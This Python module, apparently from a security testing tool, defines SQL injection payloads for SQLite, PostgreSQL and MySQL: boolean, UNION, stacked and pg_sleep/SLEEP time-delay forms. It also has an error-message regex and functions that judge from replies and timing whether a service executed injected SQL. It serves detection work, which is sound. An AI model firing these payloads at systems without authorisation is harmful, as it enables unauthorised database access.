"""Text that breaks out of an SQL literal, and the signs that a database has executed it.

The techniques are those of the OWASP Web Security Testing Guide, section 4.7.5: error, boolean,
union, stacked and time based, for SQLite, PostgreSQL and MySQL. No payload but those of
:data:`STYLES` makes a condition true that was false: whatever else a statement does, it does it to
no more rows.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass
from math import inf
from typing import Literal

from asbuilt import regex
from asbuilt.verify.bench import Reply

Kind = Literal["error", "true", "false", "union", "delay"]

MARKER = "asbuilt8union4seen"
_JOINED = "'asbuilt8union'||'4seen'"
_WORK = (
    "(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT 6000000) "
    "SELECT count(*) FROM c)"
)
"""About a second of SQLite's time."""
_POSTGRES = "(SELECT 1 FROM pg_sleep(1))"
_MYSQL = "(SELECT s FROM (SELECT SLEEP(1) AS s) AS x)"
"""A second, once: not for each row."""
SLOW, FAST = 0.7, 0.4
"""Seconds that executed text takes more than other text, at least; and that other text takes at
most where a few tries are enough to tell."""


@dataclass(frozen=True, slots=True)
class Payload:
    """``text`` stands in the place of a value, ``{v}`` for the value that would stand there."""

    kind: Kind
    text: str

    def on(self, value: str) -> str:
        """The payload around a value."""
        return self.text.replace("{v}", value)


@dataclass(frozen=True, slots=True)
class Style:
    """A way out of a literal: the same condition true and false, each in two spellings."""

    true: tuple[Payload, Payload]
    false: tuple[Payload, Payload]


def _style(text: str) -> Style:
    """``text`` with ``{word}`` for OR and AND, ``{a}`` and ``{b}`` for two numbers."""

    def made(kind: Kind, word: str, a: int, b: int) -> Payload:
        filled = text.replace("{word}", word).replace("{a}", str(a)).replace("{b}", str(b))
        return Payload(kind, filled)

    return Style(
        (made("true", "OR", 1, 1), made("true", "OR", 7, 7)),
        (made("false", "AND", 1, 2), made("false", "AND", 7, 8)),
    )


STYLES = (
    _style("{v}' {word} '{a}'='{b}"),
    _style("{v} {word} {a}={b}"),
    _style("{v}' {word} {a}={b} -- "),
    _style("{v}') {word} ('{a}'='{b}"),
    _style('{v}" {word} "{a}"="{b}'),
)
OTHERS = (
    Payload("error", "{v}'"),
    Payload("union", f"{{v}}' UNION SELECT {_JOINED} -- "),
    Payload("delay", f"{{v}}' OR {_WORK}||'' = 'x"),
    Payload("delay", f"{{v}} OR {_WORK} = 1"),
    Payload("delay", "{v}'||(SELECT pg_sleep(1)::text)||'"),
    Payload("error", '{v}"'),
    Payload("error", "{v}')\\"),
    Payload("delay", "{v}'; SELECT pg_sleep(1); -- "),
)
"""The most telling ones first."""
ELSEWHERE = (
    Payload("delay", f"{{v}}' OR 2={_POSTGRES} OR '1'='2"),
    Payload("delay", f"{{v}} OR 2={_POSTGRES}"),
    Payload("delay", f"{{v}},{_POSTGRES}"),
    Payload("delay", "{v}; SELECT pg_sleep(1); -- "),
    Payload("delay", f"{{v}}' OR 2={_MYSQL} OR '1'='2"),
    Payload("delay", f"{{v}} OR 2={_MYSQL}"),
    Payload("delay", f"{{v}},{_MYSQL}"),
)
"""More for a service whose database nobody has named: between quotation marks, where a number
stands, in a list of columns, and as a statement of its own."""
KEPT = "{v}'||'kept"
"""Text that comes back shorter when it was part of a statement."""

_MESSAGES = regex.compile(
    r"sqlite|apsw|near \"[^\"]*\": syntax error|unrecognized token|unterminated quoted string|"
    r"syntax error at or near|SQLSTATE|psycopg|asyncpg|PG::|mysql_|pymysql|MariaDB|"
    r"You have an error in your SQL|"
    r"ORA-[0-9]{5}|ODBC|unclosed quotation mark|sqlalchemy|incomplete input|no such column",
    re.I,
)


def given(reply: Reply) -> int:
    """How much a request was given: the rows of a page, 1 for anything else that succeeds, -1 for a
    refusal."""
    if reply.status is None or reply.status >= 300:
        return -1
    body = reply.json
    if isinstance(body, dict):
        rows = next((value for value in body.values() if isinstance(value, list)), None)
        return 1 if rows is None else len(rows)
    return len(body) if isinstance(body, list) else 1


def given_away(control: Reply, reply: Reply) -> str | None:
    """What a single answer betrays: an error of the database, or what it has computed."""
    body = reply.answer.body.decode("utf-8", "replace") if reply.answer else ""
    before = control.answer.body.decode("utf-8", "replace") if control.answer else ""
    if MARKER in body:
        return "the database joined two strings"
    found = _MESSAGES.search(body)
    if found and not _MESSAGES.search(before):
        return f"the answer speaks of `{found[0]}`"
    if _failed(reply) and not _failed(control):
        return f"answered {reply.status}"
    return None


def decided(control: Reply, true: Sequence[Reply], false: Sequence[Reply]) -> str | None:
    """Whether a condition in the text was decided by the database: what is true gives more than
    plain text does, and what is false does not."""
    plain = given(control)
    if all(given(reply) > plain for reply in true) and all(
        given(reply) <= plain for reply in false
    ):
        return f"a true condition gives {given(true[0])}, a false one {given(false[0])}"
    return None


def _failed(reply: Reply) -> bool:
    return reply.status is not None and reply.status >= 500 and reply.status != 503


def seconds(reply: Reply) -> float:
    """How long an answer took; without one, for ever."""
    return reply.answer.seconds if reply.answer else inf
